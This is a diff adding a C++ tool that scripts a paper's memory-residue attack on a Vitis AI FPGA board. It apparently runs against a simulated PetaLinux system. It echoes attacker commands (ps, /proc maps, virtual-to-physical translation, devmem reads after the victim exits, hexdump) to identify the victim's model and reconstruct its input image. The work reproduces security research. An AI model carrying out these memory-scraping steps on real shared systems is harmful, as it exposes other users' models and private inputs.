@@ -1,0 +1,110 @@
+// attack_cli: the paper's two-terminal workflow as a scripted session.
+// Every command the paper's figures show (ps -ef, vim /proc/<pid>/maps,
+// ./virtual_to_physical.out, devmem, hexdump|grep) is replayed through
+// the library and echoed shell-style, so the output reads like the
+// attacker terminal transcript in §V.
+//
+// Usage: attack_cli [model_name]   (default resnet50_pt)
+#include <cstdio>
+#include <string>
+
+#include "attack/hexdump_analyzer.h"
+#include "attack/orchestrator.h"
+#include "attack/scenario.h"
+#include "util/strings.h"
+#include "vitis/model_zoo.h"
+#include "vitis/runtime.h"
+
+namespace {
+
+void shell(const std::string& cmd) { std::printf("attacker$ %s\n", cmd.c_str()); }
+
+}  // namespace
+
+int main(int argc, char** argv) {
+  using namespace msa;
+
+  const std::string model = argc > 1 ? argv[1] : "resnet50_pt";
+  if (!vitis::zoo_has_model(model)) {
+    std::fprintf(stderr, "unknown model '%s'; available:\n", model.c_str());
+    for (const auto& n : vitis::zoo_model_names()) {
+      std::fprintf(stderr, "  %s\n", n.c_str());
+    }
+    return 2;
+  }
+
+  // Offline phase (attacker's own board).
+  std::puts("== offline profiling (attacker board, 0x555555 marker) ==");
+  attack::ScenarioConfig pc;
+  pc.model_name = model;
+  pc.image_width = 96;
+  pc.image_height = 96;
+  const attack::ModelProfile profile = attack::profile_on_twin_board(pc);
+  std::printf("learned: image offset %llu in a %llu-byte heap\n\n",
+              static_cast<unsigned long long>(profile.image_offset),
+              static_cast<unsigned long long>(profile.heap_bytes));
+
+  // Target board with a victim.
+  os::PetaLinuxSystem board{os::SystemConfig::zcu104()};
+  board.add_user(1000, "victim");
+  board.add_user(1001, "attacker");
+  vitis::VitisAiRuntime runtime{board};
+  board.set_next_pid(1391);
+  const img::Image input = img::make_test_image(96, 96, 2024);
+  const vitis::VictimRun run = runtime.launch(1000, model, input, "pts/1");
+
+  dbg::SystemDebugger debugger{board, 1001};
+  attack::ProfileDb profiles;
+  profiles.add(profile);
+  attack::AttackOrchestrator orch{debugger, attack::SignatureDb::for_zoo(),
+                                  std::move(profiles)};
+
+  std::puts("== step 1: poll for the victim ==");
+  shell("ps -ef | grep " + model);
+  const auto entry = orch.find_victim(model);
+  if (!entry) {
+    std::puts("victim not found");
+    return 1;
+  }
+  std::printf("%lld %lld ... %s\n\n", static_cast<long long>(entry->pid),
+              static_cast<long long>(entry->ppid), entry->cmd.c_str());
+
+  std::puts("== step 2: maps + pagemap translation ==");
+  shell("vim /proc/" + std::to_string(entry->pid) + "/maps");
+  const attack::ResolvedTarget target = orch.resolve(entry->pid);
+  std::printf("%s", target.maps_text.c_str());
+  shell("./virtual_to_physical.out " + std::to_string(entry->pid) + " " +
+        util::hex_0x(target.heap_start));
+  if (target.page_pa.front()) {
+    std::printf("%s\n", util::hex_0x(*target.page_pa.front()).c_str());
+  }
+  std::printf("(resolved %zu heap pages)\n\n", target.pages_resolved());
+
+  std::puts("== step 3: victim exits; devmem the residue ==");
+  board.terminate(run.pid);
+  shell("ps -ef | grep " + std::to_string(entry->pid));
+  std::printf("(no output — pid gone)\n");
+  shell("devmem " + util::hex_0x(*target.page_pa.front()));
+  const attack::AttackReport report = orch.attack_after_termination(target);
+  std::printf("... %llu automated devmem reads, %llu bytes\n\n",
+              static_cast<unsigned long long>(report.devmem_reads),
+              static_cast<unsigned long long>(report.residue_bytes));
+
+  std::puts("== step 4: analysis ==");
+  shell("hexdump heap.bin | grep " + model.substr(0, 8));
+  std::printf("identified: %s (%zu hits)\n", report.identified_model.c_str(),
+              report.signature_hits);
+  if (report.deep_match) {
+    std::printf("deep: full xmodel parsed, %zu weight bytes\n",
+                report.deep_match->param_bytes);
+  }
+  if (report.reconstructed_image) {
+    std::printf("image reconstructed at profiled offset: match %.4f\n",
+                img::pixel_match_fraction(*report.reconstructed_image, input));
+  }
+  if (report.descriptor_image) {
+    std::printf("image reconstructed via DPU descriptor:  match %.4f\n",
+                img::pixel_match_fraction(*report.descriptor_image, input));
+  }
+  return report.model_identified() && report.image_recovered() ? 0 : 1;
+}
